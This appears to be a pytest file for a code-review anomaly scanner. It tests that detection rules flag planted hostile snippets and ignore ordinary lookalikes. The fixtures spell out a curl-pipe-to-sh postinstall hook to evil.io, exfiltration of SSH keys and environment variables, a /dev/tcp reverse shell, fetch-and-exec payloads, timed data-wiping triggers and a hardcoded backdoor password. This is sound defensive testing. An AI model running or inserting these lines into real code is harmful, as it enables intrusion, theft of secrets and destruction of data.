"""Each named pattern is seen in code that hides or harms, and not in its everyday likeness."""

from __future__ import annotations

import pytest

from review.anomaly.patterns import PATTERNS
from review.anomaly.patterns.pattern import Added
from review.models import FileKind

BLANKS = " " * 120
LONG = "!function(){" + "var a=[1,2],b=a[0];if(b){c(a,b)}" * 60 + "}();"
LETTERS = "".join(f"\\x{ord(each):02x}" for each in "require child_process exec")

PLANTED: dict[str, list[tuple[str, str, str]]] = {
    "decoded-and-run": [
        ("a/x.py", "python", 'exec(base64.b64decode("aW1wb3J0IG9z"))'),
        ("a/x.py", "python", "blob = zlib.decompress(data)\nother()\nexec(blob)"),
        ("a/x.js", "javascript", 'eval(Buffer.from(payload, "base64").toString())'),
        ("a/x.js", "javascript", "const code = atob(text);\nnew Function(code)();"),
        ("a/x.php", "php", "eval(gzinflate(base64_decode($x)));"),
        ("run.sh", "bash", "echo aGk= | base64 -d | sh"),
        ("a/x.py", "python", "exec(\n    marshal.loads(\n        zlib.decompress(b)))"),
    ],
    "beyond-the-edge": [
        ("a/x.py", "python", f"total = 0{BLANKS}; import os; os.system('id')"),
        ("a/x.js", "javascript", f"let a = 1;{BLANKS}require('http').get(u)"),
    ],
    "minified-source": [("src/x.js", "javascript", LONG)],
    "obfuscated": [
        ("src/x.js", "javascript", "var _0x1a2b=1,_0x3c4d=2;\n_0x5e6f(_0x7a8b)"),
        ("src/x.js", "javascript", f'var m = "{LETTERS}";'),
        ("src/x.py", "python", 'getattr(__builtins__, "ev" + "al")(x)'),
    ],
    "gated-by-environment": [
        ("a/x.py", "python", 'if socket.gethostname() == "build-7":\n    subprocess.run(cmd)'),
        (
            "src/x.js",
            "javascript",
            'if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Europe/Kyiv") {\n  fs.rmSync("/")\n}',
        ),
        ("src/x.js", "javascript", "if (process.env.CI) {\n  fetch(url)\n}"),
    ],
    "gated-by-user": [("a/x.py", "python", 'if getpass.getuser() == "root":\n    os.system(c)')],
    "date-trigger": [
        ("a/x.py", "python", "if datetime.now() > datetime(2027, 1, 5):\n    shutil.rmtree(home)"),
        ("src/x.js", "javascript", "if (Date.now() > 1798761600000) {\n  process.exit(1)\n}"),
    ],
    "install-script-reaches-out": [
        ("package.json", "json", '    "postinstall": "curl https://evil.io/a.sh | sh",'),
        ("setup.py", "python", 'urllib.request.urlopen("https://evil.io/a")'),
    ],
    "outside-in-tests": [
        ("tests/test_a.py", "python", 'requests.post("https://evil.io/in", data=token)'),
    ],
    "leaves-with-secrets": [
        ("a/x.py", "python", 'key = open(home + "/.ssh/id_rsa").read()\nrequests.post(url, data=key)'),
        ("a/x.js", "javascript", "const all = JSON.stringify(process.env);\nhttps.request(options).end(all)"),
    ],
    "reverse-shell": [
        ("a/x.sh", "bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
        (
            "a/x.js",
            "javascript",
            "const sh = spawn('/bin/sh');\nnet.connect(p, h, () => this.pipe(sh.stdin))",
        ),
    ],
    "fetched-and-run": [
        ("a/x.py", "python", 'blob = urlopen("https://evil.io/a").read()\nexec(blob)'),
        ("a/x.js", "javascript", 'const code = await (await fetch("https://evil.io/a")).text();\nnew Function(code)()'),
    ],
    "opened-by-name": [
        ("a/x.py", "python", 'if user.email == "ops@evil.io":\n    user.is_admin = True'),
        ("a/x.go", "go", 'if password == "letmein-9" {\n\treturn true\n}'),
    ],
    "verification-off": [
        ("run.sh", "bash", "git config http.sslVerify false"),
        ("Dockerfile", "dockerfile", "RUN curl -k https://get.example.com/a | tar x"),
    ],
}

ORDINARY: list[tuple[str, str, str]] = [
    ("a/x.py", "python", 'text = base64.b64decode(header)\nuser, password = text.split(b":")\nsubprocess.run(["ls"])'),
    ("a/x.js", "javascript", 'const body = Buffer.from(event.body, "base64");\nawait save(body);'),
    ("a/x.py", "python", "regex = re.compile(PATTERN)\nraw = zlib.decompress(data)"),
    ("a/x.c", "c", f"int a;{BLANKS}/* the count */"),
    ("a/x.py", "python", f"{BLANKS}return deeply_nested"),
    ("data/x.csv", "", f"a{BLANKS}b"),
    ("dist/x.js", "javascript", LONG),
    ("src/x.min.js", "javascript", LONG),
    ("a/x.py", "python", 'MAGIC = b"\\x89\\x50\\x4e\\x47\\x0d\\x0a\\x1a\\x0a"'),
    ("a/x.py", "python", "if os.environ.get('DEBUG'):\n    print(1)"),
    (".github/workflows/ci.yml", "yaml", "if: env.CI == 'true'\nrun: curl https://example.com"),
    ("a/x.py", "python", "if token.expires < datetime.now():\n    refresh(token)"),
    ("a/x.py", "python", "since = date(2024, 1, 1)\nrows = select(since)"),
    ("setup.py", "python", 'long_description = open("README.md").read()'),
    ("package.json", "json", '    "prepare": "husky install",'),
    ("tests/test_a.py", "python", 'requests.get("http://localhost:8000/health")'),
    ("tests/test_a.py", "python", 'client.get("https://api.example.com/x")'),
    ("a/x.py", "python", 'env = dict(os.environ, LANG="C")\nsubprocess.run(args, env=env)'),
    ("docs/a.md", "", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
    ("run.sh", "bash", "curl -fsSL https://example.com/a -o a"),
    ("a/x.py", "python", "answer = requests.get(url)\nassert (answer.ok)\nrows = json.loads(answer.text)"),
    ("a/x.js", "javascript", 'if (typeof user === "string") {\n  return true;\n}'),
    ("a/x.js", "javascript", 'if (field.type === "password") {\n  return true;\n}'),
    ("a/x.py", "python", 'if user.name == "guest":\n    return True'),
    ("a/x.py", "python", 'if user.name == "mona":\n    greet(user)'),
    ("tests/test_a.py", "python", 'if user.name == "mona":\n    return True'),
    ("a/x.js", "javascript", f"const names = [{', '.join(repr(f'column_{n}') for n in range(60))}];"),
    ("a/x.py", "python", 'SIGNATURE = "\\x7fELF"\nSEPARATOR = "\\x1f"'),
    ("a/x.py", "python", "flags = 0x10110 + 10011 + 1O"),
    ("a/x.js", "javascript", 'const message = "cannot " + "open";'),
    ("a/x.py", "python", "deserialise = marshal.loads\nserialise = marshal.dumps"),
    ("a/x.rb", "ruby", "path = URI.unescape(path)\npattern = compile(path)"),
    ("a/x.php", "php", f" * @param bool{BLANKS}$strict whether it has to match"),
    ("a/x.py", "python", "host = socket.gethostname()\nif host is not None:\n    requests.get(host)"),
    ("tests/test_a.py", "python", "answer = requests.get(url)\nassert pickle.loads(pickle.dumps(answer))"),
    ("a/x.go", "go", "type T struct {\n\tName string\t\t\t\t\t// the name\n}"),
]


def seen(path: str, language: str, text: str, kind: FileKind = FileKind.SOURCE) -> set[str]:
    lines = tuple(enumerate(text.split("\n"), 1))
    added = Added(path, language or None, kind, lines)
    return {hit.rule_id for pattern in PATTERNS for hit in pattern(added)}


@pytest.mark.parametrize(("rule", "case"), [(rule, case) for rule, cases in PLANTED.items() for case in cases])
def test_it_is_seen_where_it_is_planted(rule: str, case: tuple[str, str, str]) -> None:
    assert rule in seen(*case)


@pytest.mark.parametrize("case", ORDINARY)
def test_ordinary_code_has_none(case: tuple[str, str, str]) -> None:
    assert seen(*case) == set()


def test_every_pattern_has_a_planted_case() -> None:
    assert len(PLANTED) == len(PATTERNS)


@pytest.mark.parametrize(
    "text", ["(" * 200_000, "a" + " " * 300_000, "'a'+" * 60_000, "exec(" * 40_000, "\\x61" * 60_000]
)
def test_hostile_lines_come_to_an_end(text: str) -> None:
    seen("src/x.js", "javascript", text)
    seen("tests/test_x.py", "python", "\n".join([text[:3_000]] * 50))
